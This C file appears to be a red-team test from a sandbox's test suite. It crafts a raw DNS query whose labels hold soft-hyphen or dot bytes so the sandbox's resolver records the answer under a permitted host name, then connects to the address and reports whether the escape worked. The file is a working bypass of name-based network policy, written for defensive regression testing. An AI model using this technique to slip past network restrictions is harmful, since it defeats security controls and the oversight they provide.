/* dns_spelled.c: a name the rules read as a permitted host, asked of the name server as
 * another name (issue 11, red team 87; class 7, host names).
 *
 * A query's name is labels of bytes.  systrace's resolver read it as the labels joined by
 * dots, lower case, and decided the query on that text; then it recorded the answer's
 * addresses under normal_name() of that text -- which drops a soft hyphen (U+00AD, the
 * IDNA mapping of a byte 0xAD read as Latin-1), maps 'ß' to "ss", strips white space and a
 * trailing dot.  A label holding a dot byte reads as two labels.  So "www\xad.good.test" or
 * the two labels "www.good" and "test" were recorded as "www.good.test": the name server,
 * asked another name (one a wildcard record of the zone answers -- `*.test`, as many zones
 * have -- or one of a zone the program's owner runs), said which address a permit on
 * www.good.test lets the program reach.
 *
 *   dns_spelled LABELS PORT   LABELS: the query's labels separated by '/', each taken as
 *                             raw bytes; asks the first name server of /etc/resolv.conf
 *                             (UDP, type A) and connects to the answered address's PORT.
 *                             ESCAPED when that connect succeeds; BLOCKED when the name
 *                             server's answer (or systrace's) gave no address, or the
 *                             connect failed.
 */
#include "attack.h"
#include "dns_query.h"

int main(int argc, char **argv) {
    struct sockaddr_in server, target;
    unsigned char q[512], r[512];
    size_t n = 12;
    if (argc != 3)
        usage("dns_spelled LABELS PORT");
    if (nameserver(&server) < 0)
        skipped("no nameserver in /etc/resolv.conf");
    const unsigned char head[12] = {0x87, 0x87, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0};
    memcpy(q, head, sizeof head);
    for (const char *p = argv[1]; *p;) {
        const char *slash = strchr(p, '/');
        size_t len = slash ? (size_t)(slash - p) : strlen(p);
        if (len == 0 || len > 63 || n + len + 6 > sizeof q)
            usage("dns_spelled LABELS PORT (labels of 1 to 63 bytes)");
        q[n++] = (unsigned char)len;
        memcpy(q + n, p, len);
        n += len;
        p += len + (slash ? 1 : 0);
    }
    const unsigned char tail[] = {0, 0, 1, 0, 1};
    memcpy(q + n, tail, sizeof tail);
    n += sizeof tail;
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    struct timeval tv = {8, 0};
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    if (connect(s, (struct sockaddr *)&server, sizeof server) != 0)
        blocked("connect to the name server: %s", ename(errno));
    if (send(s, q, n, 0) != (ssize_t)n)
        blocked("send: %s", ename(errno));
    ssize_t got = recv(s, r, sizeof r, 0);
    if (got < 0)
        blocked("no answer: %s", ename(errno));
    if (got < 12)
        blocked("an answer of %zd bytes", got);
    int rcode = r[3] & 15, answers = r[6] << 8 | r[7];
    if (rcode != 0 || answers < 1 || got < 16)
        blocked("the answer gave no address (rcode %d, %d answers)", rcode, answers);
    memset(&target, 0, sizeof target);
    target.sin_family = AF_INET;
    target.sin_port = htons((unsigned short)atoi(argv[2]));
    memcpy(&target.sin_addr, r + got - 4, 4);
    char text[INET_ADDRSTRLEN];
    inet_ntop(AF_INET, &target.sin_addr, text, sizeof text);
    printf("answered: %s\n", text);
    fflush(stdout);
    int c = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(c, (struct sockaddr *)&target, sizeof target) == 0)
        escaped("connected to %s, which the policy permits only as a name looked up", text);
    blocked("connect to %s: %s", text, ename(errno));
}
